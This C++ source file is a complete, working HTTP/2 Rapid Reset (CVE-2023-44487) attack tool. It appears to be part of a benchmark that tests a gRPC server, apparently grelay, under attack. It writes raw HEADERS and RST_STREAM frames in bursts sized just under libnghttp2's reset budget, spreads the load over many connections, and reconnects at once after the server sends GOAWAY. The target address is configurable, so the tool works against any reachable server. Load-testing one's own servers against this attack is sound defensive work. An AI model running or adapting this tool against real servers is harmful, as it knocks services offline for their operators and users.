// rapid_reset: the attacker of bench.py's `underattack` workload, a spread HTTP/2
// rapid-reset attack (CVE-2023-44487) on an h2c server.
//
//   rapid_reset --port N [--address IP] [--connections 30] [--streams 990]
//               [--interval-ms 1000] [--seconds 0] [--path /bench.Echo/Unary]
//
// Each of the C connections sends the client preface and SETTINGS, then every interval a
// burst: S x (HEADERS of a gRPC unary call, at once followed by RST_STREAM(CANCEL) for
// the same stream), written back to back. S defaults to 990, just under libnghttp2's
// default reset budget of 1,000 per connection; the attack is spread over many
// connections so that each stays near that budget. The connections' bursts are staggered
// evenly over the interval. A burst is skipped (and counted) while the previous one is
// still unwritten, so a server that stops reading slows the attacker down instead of
// growing its memory. When the server sends GOAWAY or closes a connection, the
// connection is opened again at once (closing it is the right defence; the attacker
// comes back). --interval-ms 0 sends bursts back to back, as fast as the server reads.
//
// Frames are written raw; header blocks are pre-encoded HPACK literals without indexing
// (no dynamic table, so every HEADERS frame is the same bytes but for its stream id).
// What the server sends is parsed only far enough to answer SETTINGS and PING, and to
// note GOAWAY (its error code), HEADERS and RST_STREAM; everything else is skipped.
//
// stdout: {"mode":"rapid_reset","started":...} once every connection has been connected
// (or after 2 s), and at the end (after --seconds, or at SIGINT/SIGTERM) one JSON object
// with the totals. Errors go to stderr; bad options exit 2.

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <sys/epoll.h>
#include <sys/signalfd.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cinttypes>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <deque>
#include <iterator>
#include <map>
#include <string>
#include <string_view>
#include <vector>

namespace grelay::bench {
namespace {

struct Options {
  std::string address = "127.0.0.1";
  int port = 0;
  int connections = 30;
  int streams = 990;
  int interval_ms = 1000;
  int seconds = 0;  // 0: until SIGINT/SIGTERM.
  std::string path = "/bench.Echo/Unary";
};

[[noreturn]] void usage(const char* error) {
  if (error != nullptr) std::fprintf(stderr, "rapid_reset: %s\n", error);
  std::fprintf(error != nullptr ? stderr : stdout,
               "usage: rapid_reset --port N [options]\n"
               "  --address IP        server address (default 127.0.0.1)\n"
               "  --connections C     attacking connections (default 30)\n"
               "  --streams S         HEADERS+RST_STREAM pairs per burst (default 990)\n"
               "  --interval-ms T     one burst per connection every T ms, staggered over\n"
               "                      the connections; 0: back to back (default 1000)\n"
               "  --seconds T         stop after T seconds; 0: at SIGINT/SIGTERM (default 0)\n"
               "  --path P            :path of the calls (default /bench.Echo/Unary)\n");
  std::exit(error != nullptr ? 2 : 0);
}

int parse_int(const std::string& text, int low, int high, const char* what) {
  char* end = nullptr;
  long value = std::strtol(text.c_str(), &end, 10);
  if (text.empty() || *end != '\0' || value < low || value > high) {
    usage((std::string("bad ") + what + ": '" + text + "'").c_str());
  }
  return static_cast<int>(value);
}

Options parse_options(int argc, char** argv) {
  Options options;
  for (int i = 1; i < argc; ++i) {
    std::string arg = argv[i];
    if (arg == "-h" || arg == "--help") usage(nullptr);
    if (i + 1 >= argc) usage(("missing value for " + arg).c_str());
    std::string value = argv[++i];
    if (arg == "--address") {
      options.address = value;
    } else if (arg == "--port") {
      options.port = parse_int(value, 1, 65535, "port");
    } else if (arg == "--connections") {
      options.connections = parse_int(value, 1, 10000, "connections");
    } else if (arg == "--streams") {
      options.streams = parse_int(value, 1, 1000000, "streams");
    } else if (arg == "--interval-ms") {
      options.interval_ms = parse_int(value, 0, 3600000, "interval");
    } else if (arg == "--seconds") {
      options.seconds = parse_int(value, 0, 86400, "seconds");
    } else if (arg == "--path") {
      options.path = value;
    } else {
      usage(("unknown option " + arg).c_str());
    }
  }
  if (options.port == 0) usage("--port is required");
  return options;
}

double now_s() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) / 1e9;
}

// --- HTTP/2 frames --------------------------------------------------------------------

constexpr uint8_t frame_headers = 0x1;
constexpr uint8_t frame_rst_stream = 0x3;
constexpr uint8_t frame_settings = 0x4;
constexpr uint8_t frame_ping = 0x6;
constexpr uint8_t frame_goaway = 0x7;
constexpr uint8_t flag_ack = 0x1;
constexpr uint8_t flag_end_headers = 0x4;
constexpr uint32_t error_cancel = 0x8;
constexpr size_t frame_header_length = 9;
constexpr std::string_view preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
constexpr int32_t max_stream_id = 0x7fffffff;

void put32(std::string& out, uint32_t value) {
  out += static_cast<char>(value >> 24);
  out += static_cast<char>(value >> 16);
  out += static_cast<char>(value >> 8);
  out += static_cast<char>(value);
}

void frame_header(std::string& out, size_t length, uint8_t type, uint8_t flags, uint32_t stream) {
  out += static_cast<char>(length >> 16);
  out += static_cast<char>(length >> 8);
  out += static_cast<char>(length);
  out += static_cast<char>(type);
  out += static_cast<char>(flags);
  put32(out, stream & 0x7fffffffu);
}

// An HPACK integer (RFC 7541 5.1) with an |prefix|-bit prefix and |first| as high bits.
void hpack_int(std::string& out, uint8_t first, int prefix, size_t value) {
  size_t limit = (1u << prefix) - 1;
  if (value < limit) {
    out += static_cast<char>(first | value);
    return;
  }
  out += static_cast<char>(first | limit);
  value -= limit;
  while (value >= 128) {
    out += static_cast<char>((value % 128) | 0x80);
    value /= 128;
  }
  out += static_cast<char>(value);
}

void hpack_string(std::string& out, std::string_view text) {
  hpack_int(out, 0x00, 7, text.size());  // No Huffman coding.
  out += text;
}

// "Literal header field without indexing" with a static-table name (RFC 7541 6.2.2).
void literal_indexed_name(std::string& out, size_t name_index, std::string_view value) {
  hpack_int(out, 0x00, 4, name_index);
  hpack_string(out, value);
}

void literal_new_name(std::string& out, std::string_view name, std::string_view value) {
  out += '\0';
  hpack_string(out, name);
  hpack_string(out, value);
}

// The header block of a gRPC unary call, as h2load sends it (:method POST, :scheme http,
// :path, :authority, content-type: application/grpc, te: trailers).
std::string request_block(const std::string& path, const std::string& authority) {
  std::string block;
  block += static_cast<char>(0x83);                     // :method POST (static 3)
  block += static_cast<char>(0x86);                     // :scheme http (static 6)
  literal_indexed_name(block, 4, path);                 // :path
  literal_indexed_name(block, 1, authority);            // :authority
  literal_indexed_name(block, 31, "application/grpc");  // content-type
  literal_new_name(block, "te", "trailers");
  return block;
}

const char* error_name(uint32_t code) {
  static const char* const names[] = {"NO_ERROR",
                                      "PROTOCOL_ERROR",
                                      "INTERNAL_ERROR",
                                      "FLOW_CONTROL_ERROR",
                                      "SETTINGS_TIMEOUT",
                                      "STREAM_CLOSED",
                                      "FRAME_SIZE_ERROR",
                                      "REFUSED_STREAM",
                                      "CANCEL",
                                      "COMPRESSION_ERROR",
                                      "CONNECT_ERROR",
                                      "ENHANCE_YOUR_CALM",
                                      "INADEQUATE_SECURITY",
                                      "HTTP_1_1_REQUIRED"};
  return code < std::size(names) ? names[code] : nullptr;
}

// --- The attack -------------------------------------------------------------------------

struct Totals {
  uint64_t connects = 0;          // Connections opened (connect() succeeded).
  uint64_t connect_failures = 0;  // connect() refused or failed.
  uint64_t closed_by_server = 0;  // Ended by GOAWAY, EOF or a reset from the server.
  uint64_t closed_without_goaway = 0;
  std::map<uint32_t, uint64_t> goaway;  // Error code -> GOAWAYs received.
  uint64_t bursts = 0;
  uint64_t bursts_skipped = 0;  // The previous burst was still unwritten.
  uint64_t streams_sent = 0;    // HEADERS+RST_STREAM pairs completely written.
  uint64_t bytes_sent = 0;
  uint64_t bytes_received = 0;
  uint64_t headers_received = 0;
  uint64_t rst_received = 0;
};

// Bytes queued on a connection: control frames (|record| 0) or a burst of stream records
// of |record| bytes each, so that streams are counted as they are fully written.
struct Segment {
  size_t length = 0;
  size_t written = 0;
  size_t record = 0;
};

struct Connection {
  int index = 0;
  int fd = -1;
  bool connecting = false;
  bool connected_once = false;
  std::string out;  // Unwritten bytes; out_offset of them already went.
  size_t out_offset = 0;
  std::deque<Segment> segments;
  uint32_t next_stream = 1;
  double next_burst = 0;    // When the next burst is due (monotonic seconds).
  double next_connect = 0;  // When to try connecting again after a failure.
  // Incoming frame parser.
  uint8_t header[frame_header_length]{};
  size_t header_have = 0;
  size_t payload_left = 0;
  std::string payload;  // Kept for SETTINGS, PING, GOAWAY; others are skipped.
  bool keep_payload = false;
};

class Attack {
 public:
  explicit Attack(const Options& options) : options_(options) {}

  int run();

 private:
  bool open(Connection& c);
  void close(Connection& c, bool by_server, const char* why);
  void queue(Connection& c, std::string bytes, size_t record);
  void queue_burst(Connection& c);
  bool flush(Connection& c);     // false: the connection was closed.
  bool read_all(Connection& c);  // false: the connection was closed.
  bool on_frame(Connection& c);  // false: the connection was closed.
  void on_event(Connection& c, uint32_t events);
  void report_started();
  void report_totals(double elapsed);

  const Options& options_;
  sockaddr_in address_{};
  int epoll_ = -1;
  std::vector<Connection> connections_;
  std::string block_;   // The pre-encoded request header block.
  std::string record_;  // HEADERS + RST_STREAM for stream 1; ids are patched per stream.
  std::string burst_;   // A burst's bytes, rebuilt per burst from record_.
  double interval_ = 0;
  double start_ = 0;
  bool started_reported_ = false;
  Totals totals_;
};

bool Attack::open(Connection& c) {
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) {
    std::fprintf(stderr, "rapid_reset: socket: %s\n", std::strerror(errno));
    return false;
  }
  int on = 1;
  ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
  if (::connect(fd, reinterpret_cast<sockaddr*>(&address_), sizeof(address_)) != 0 &&
      errno != EINPROGRESS) {
    ::close(fd);
    ++totals_.connect_failures;
    return false;
  }
  epoll_event event{};
  event.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET;
  event.data.u64 = static_cast<uint64_t>(c.index);
  if (::epoll_ctl(epoll_, EPOLL_CTL_ADD, fd, &event) != 0) {
    ::close(fd);
    return false;
  }
  c.fd = fd;
  c.connecting = true;
  c.out.clear();
  c.out_offset = 0;
  c.segments.clear();
  c.next_stream = 1;
  c.header_have = 0;
  c.payload_left = 0;
  c.payload.clear();
  c.keep_payload = false;
  std::string hello(preface);
  // SETTINGS: ENABLE_PUSH = 0.
  frame_header(hello, 6, frame_settings, 0, 0);
  hello += '\0';
  hello += '\x02';
  put32(hello, 0);
  queue(c, std::move(hello), 0);
  return true;
}

void Attack::close(Connection& c, bool by_server, const char* why) {
  if (c.fd < 0) return;
  if (by_server) {
    ++totals_.closed_by_server;
    if (why != nullptr) ++totals_.closed_without_goaway;
  }
  ::close(c.fd);  // Also removes it from the epoll set.
  c.fd = -1;
  c.connecting = false;
  c.next_connect = 0;  // Reconnect at once; the main loop does it.
}

void Attack::queue(Connection& c, std::string bytes, size_t record) {
  if (c.out_offset == c.out.size()) {
    c.out.clear();
    c.out_offset = 0;
  }
  c.segments.push_back({bytes.size(), 0, record});
  c.out += bytes;
}

void Attack::queue_burst(Connection& c) {
  size_t streams = static_cast<size_t>(options_.streams);
  if (c.next_stream > static_cast<uint32_t>(max_stream_id) - 2 * streams) {
    close(c, false, nullptr);  // Stream ids used up: start a new connection.
    return;
  }
  burst_.resize(record_.size() * streams);
  char* p = burst_.data();
  for (size_t i = 0; i < streams; ++i, p += record_.size()) {
    std::memcpy(p, record_.data(), record_.size());
    uint32_t id = htonl(c.next_stream);
    std::memcpy(p + 5, &id, 4);                                        // HEADERS
    std::memcpy(p + frame_header_length + block_.size() + 5, &id, 4);  // RST_STREAM
    c.next_stream += 2;
  }
  ++totals_.bursts;
  queue(c, burst_, record_.size());
}

bool Attack::flush(Connection& c) {
  while (c.out_offset < c.out.size()) {
    ssize_t n =
        ::send(c.fd, c.out.data() + c.out_offset, c.out.size() - c.out_offset, MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EAGAIN || errno == EWOULDBLOCK) return true;
      if (errno == EINTR) continue;
      close(c, true, "write failed");
      return false;
    }
    c.out_offset += static_cast<size_t>(n);
    totals_.bytes_sent += static_cast<uint64_t>(n);
    size_t left = static_cast<size_t>(n);
    while (left > 0) {
      Segment& s = c.segments.front();
      size_t take = std::min(left, s.length - s.written);
      if (s.record != 0) {
        totals_.streams_sent += (s.written + take) / s.record - s.written / s.record;
      }
      s.written += take;
      left -= take;
      if (s.written == s.length) c.segments.pop_front();
    }
  }
  c.out.clear();
  c.out_offset = 0;
  return true;
}

bool Attack::on_frame(Connection& c) {
  uint8_t type = c.header[3];
  uint8_t flags = c.header[4];
  switch (type) {
    case frame_headers:
      ++totals_.headers_received;
      break;
    case frame_rst_stream:
      ++totals_.rst_received;
      break;
    case frame_settings:
      if (!(flags & flag_ack)) {
        std::string ack;
        frame_header(ack, 0, frame_settings, flag_ack, 0);
        queue(c, std::move(ack), 0);
      }
      break;
    case frame_ping:
      if (!(flags & flag_ack) && c.payload.size() == 8) {
        std::string ack;
        frame_header(ack, 8, frame_ping, flag_ack, 0);
        ack += c.payload;
        queue(c, std::move(ack), 0);
      }
      break;
    case frame_goaway:
      if (c.payload.size() >= 8) {
        const auto* p = reinterpret_cast<const uint8_t*>(c.payload.data()) + 4;
        uint32_t code =
            (uint32_t{p[0]} << 24) | (uint32_t{p[1]} << 16) | (uint32_t{p[2]} << 8) | p[3];
        ++totals_.goaway[code];
      }
      // The server is done with this connection: come back on a new one.
      close(c, true, nullptr);
      return false;
    default:
      break;
  }
  return true;
}

bool Attack::read_all(Connection& c) {
  static char buffer[64 * 1024];
  for (;;) {
    ssize_t n = ::recv(c.fd, buffer, sizeof(buffer), 0);
    if (n == 0) {
      close(c, true, "EOF");
      return false;
    }
    if (n < 0) {
      if (errno == EAGAIN || errno == EWOULDBLOCK) return true;
      if (errno == EINTR) continue;
      close(c, true, "read failed");
      return false;
    }
    totals_.bytes_received += static_cast<uint64_t>(n);
    const char* p = buffer;
    size_t left = static_cast<size_t>(n);
    while (left > 0) {
      if (c.header_have < frame_header_length) {
        size_t take = std::min(left, frame_header_length - c.header_have);
        std::memcpy(c.header + c.header_have, p, take);
        c.header_have += take;
        p += take;
        left -= take;
        if (c.header_have < frame_header_length) break;
        c.payload_left = (size_t{c.header[0]} << 16) | (size_t{c.header[1]} << 8) | c.header[2];
        uint8_t type = c.header[3];
        c.keep_payload = type == frame_settings || type == frame_ping || type == frame_goaway;
        c.payload.clear();
      }
      size_t take = std::min(left, c.payload_left);
      if (c.keep_payload && c.payload.size() < 64) {
        c.payload.append(p, std::min(take, 64 - c.payload.size()));
      }
      p += take;
      left -= take;
      c.payload_left -= take;
      if (c.payload_left == 0) {
        c.header_have = 0;
        if (!on_frame(c)) return false;
      }
    }
  }
}

void Attack::on_event(Connection& c, uint32_t events) {
  if (c.fd < 0) return;
  if (c.connecting) {
    if (!(events & (EPOLLOUT | EPOLLERR | EPOLLHUP))) return;
    int error = 0;
    socklen_t length = sizeof(error);
    ::getsockopt(c.fd, SOL_SOCKET, SO_ERROR, &error, &length);
    if (error != 0) {
      ::close(c.fd);
      c.fd = -1;
      c.connecting = false;
      ++totals_.connect_failures;
      c.next_connect = now_s() + 0.01;  // Do not spin on a refusing server.
      return;
    }
    c.connecting = false;
    c.connected_once = true;
    ++totals_.connects;
  }
  if ((events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR)) && !read_all(c)) return;
  flush(c);
}

void Attack::report_started() {
  if (started_reported_) return;
  started_reported_ = true;
  int connected = 0;
  for (const Connection& c : connections_)
    connected += c.connected_once ? 1 : 0;
  std::printf(
      "{\"mode\":\"rapid_reset\",\"started\":true,\"connected\":%d,"
      "\"record_bytes\":%zu}\n",
      connected, record_.size());
  std::fflush(stdout);
}

void Attack::report_totals(double elapsed) {
  std::string goaway = "{";
  for (const auto& [code, count] : totals_.goaway) {
    if (goaway.size() > 1) goaway += ",";
    char name[32];
    if (const char* known = error_name(code)) {
      std::snprintf(name, sizeof(name), "%s", known);
    } else {
      std::snprintf(name, sizeof(name), "0x%" PRIx32, code);
    }
    goaway += "\"";
    goaway += name;
    goaway += "\":" + std::to_string(count);
  }
  goaway += "}";
  std::printf(
      "{\"mode\":\"rapid_reset\",\"elapsed_s\":%.3f,\"connections\":%d,\"streams_per_burst\":%d,"
      "\"interval_ms\":%d,\"bursts\":%" PRIu64 ",\"bursts_skipped\":%" PRIu64
      ",\"streams_sent\":%" PRIu64 ",\"bytes_sent\":%" PRIu64 ",\"bytes_received\":%" PRIu64
      ",\"connects\":%" PRIu64 ",\"connect_failures\":%" PRIu64 ",\"closed_by_server\":%" PRIu64
      ",\"closed_without_goaway\":%" PRIu64 ",\"goaway\":%s,\"headers_received\":%" PRIu64
      ",\"rst_received\":%" PRIu64 "}\n",
      elapsed, options_.connections, options_.streams, options_.interval_ms, totals_.bursts,
      totals_.bursts_skipped, totals_.streams_sent, totals_.bytes_sent, totals_.bytes_received,
      totals_.connects, totals_.connect_failures, totals_.closed_by_server,
      totals_.closed_without_goaway, goaway.c_str(), totals_.headers_received,
      totals_.rst_received);
  std::fflush(stdout);
}

int Attack::run() {
  if (inet_pton(AF_INET, options_.address.c_str(), &address_.sin_addr) != 1) {
    usage(("not an IPv4 address: " + options_.address).c_str());
  }
  address_.sin_family = AF_INET;
  address_.sin_port = htons(static_cast<uint16_t>(options_.port));
  block_ = request_block(options_.path, options_.address + ":" + std::to_string(options_.port));
  frame_header(record_, block_.size(), frame_headers, flag_end_headers, 1);
  record_ += block_;
  frame_header(record_, 4, frame_rst_stream, 0, 1);
  put32(record_, error_cancel);

  sigset_t stop;
  sigemptyset(&stop);
  sigaddset(&stop, SIGINT);
  sigaddset(&stop, SIGTERM);
  sigprocmask(SIG_BLOCK, &stop, nullptr);
  int signals = ::signalfd(-1, &stop, SFD_NONBLOCK | SFD_CLOEXEC);
  epoll_ = ::epoll_create1(EPOLL_CLOEXEC);
  if (signals < 0 || epoll_ < 0) {
    std::fprintf(stderr, "rapid_reset: signalfd/epoll: %s\n", std::strerror(errno));
    return 1;
  }
  epoll_event signal_event{};
  signal_event.events = EPOLLIN;
  signal_event.data.u64 = UINT64_MAX;
  ::epoll_ctl(epoll_, EPOLL_CTL_ADD, signals, &signal_event);

  interval_ = options_.interval_ms / 1000.0;
  start_ = now_s();
  connections_.resize(static_cast<size_t>(options_.connections));
  for (int i = 0; i < options_.connections; ++i) {
    Connection& c = connections_[static_cast<size_t>(i)];
    c.index = i;
    // Staggered: the connections' bursts are spread evenly over the interval.
    c.next_burst = start_ + interval_ * i / options_.connections;
  }
  const double deadline = options_.seconds > 0 ? start_ + options_.seconds : 0;
  std::vector<epoll_event> events(static_cast<size_t>(options_.connections) + 1);
  bool stopping = false;
  while (!stopping) {
    double now = now_s();
    if (deadline != 0 && now >= deadline) break;
    if (!started_reported_) {
      bool all = std::all_of(connections_.begin(), connections_.end(),
                             [](const Connection& c) { return c.connected_once; });
      if (all || now - start_ >= 2.0) report_started();
    }
    double wake = deadline != 0 ? deadline : now + 1.0;
    for (Connection& c : connections_) {
      if (c.fd < 0) {
        if (c.next_connect <= now) {
          if (!open(c)) c.next_connect = now + 0.01;
        }
        if (c.fd < 0) {
          wake = std::min(wake, c.next_connect);
          continue;
        }
      }
      if (c.connecting) continue;
      bool pending = c.out_offset < c.out.size();
      if (interval_ == 0) {
        // Back to back: the next burst as soon as the last one is written.
        if (!pending) {
          queue_burst(c);
          if (c.fd >= 0) flush(c);
        }
      } else if (c.next_burst <= now) {
        if (pending) {
          ++totals_.bursts_skipped;  // The server has not read the last one yet.
        } else {
          queue_burst(c);
          if (c.fd >= 0) flush(c);
        }
        // The schedule does not drift; a connection that fell behind skips ahead.
        c.next_burst += interval_;
        if (c.next_burst <= now) c.next_burst = now + interval_;
      }
      if (c.fd >= 0) {
        // With no interval, the next burst goes as soon as this one is written (EPOLLOUT).
        wake = std::min(wake,
                        interval_ > 0 ? c.next_burst : (c.out_offset < c.out.size() ? wake : now));
      }
    }
    int timeout_ms = static_cast<int>(std::max(0.0, (wake - now_s()) * 1000.0) + 0.999);
    int n = ::epoll_wait(epoll_, events.data(), static_cast<int>(events.size()), timeout_ms);
    if (n < 0 && errno != EINTR) {
      std::fprintf(stderr, "rapid_reset: epoll_wait: %s\n", std::strerror(errno));
      return 1;
    }
    for (int i = 0; i < n; ++i) {
      if (events[i].data.u64 == UINT64_MAX) {
        stopping = true;
        continue;
      }
      on_event(connections_[events[i].data.u64], events[i].events);
    }
  }
  report_started();
  double elapsed = now_s() - start_;
  for (Connection& c : connections_)
    close(c, false, nullptr);
  report_totals(elapsed);
  return 0;
}

}  // namespace
}  // namespace grelay::bench

int main(int argc, char** argv) {
  signal(SIGPIPE, SIG_IGN);
  grelay::bench::Options options = grelay::bench::parse_options(argc, argv);
  grelay::bench::Attack attack(options);
  return attack.run();
}
